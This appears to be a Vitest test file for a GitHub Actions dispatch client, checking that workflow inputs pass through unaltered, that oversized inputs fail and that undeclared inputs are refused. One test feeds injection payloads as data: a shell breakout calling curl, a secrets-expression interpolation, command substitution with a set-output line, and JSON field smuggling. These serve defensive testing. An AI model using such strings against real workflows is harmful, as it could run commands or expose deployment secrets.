import { expect, it } from 'vitest'
import { sample, useGithub } from '../../contract/github-site.ts'

const { execute, github, onlyRun } = useGithub()

it.each([
  '"; curl http://127.0.0.66:18666 #',
  '${{ secrets.DEPLOY_KEY }}',
  '$(id) `id` && id | id\n::set-output name=x::y',
  '","pao_request_id":"stolen","x":"',
  '\u0000\u001b[31m',
])('sends an input as the one JSON text it is: %j (A11)', async (name) => {
  const outcome = await execute({ ...sample, inputs: { name } })

  const { inputs } = onlyRun()
  expect(outcome.kind).toBe('waiting')
  expect(inputs).toMatchObject({ name })
  expect(inputs['pao_request_id']).toMatch(/^pao-[0-9a-f]{20}$/)
})

it('sends no more than GitHub takes, and says so before anything is called (A11)', async () => {
  const outcome = await execute({ ...sample, inputs: { name: 'x'.repeat(70_000) } })

  expect(outcome).toMatchObject({
    kind: 'failed',
    retryable: false,
    code: 'github.inputs_too_large',
    made: 'no',
  })
  expect(github().runs()).toEqual([])
})

it('does not send an input that the workflow does not declare (A11)', async () => {
  const outcome = await execute({ ...sample, inputs: { name: 'orders', sudo: 'true' } })

  expect(outcome).toMatchObject({ kind: 'failed', retryable: false })
  expect(github().runs()).toEqual([])
})
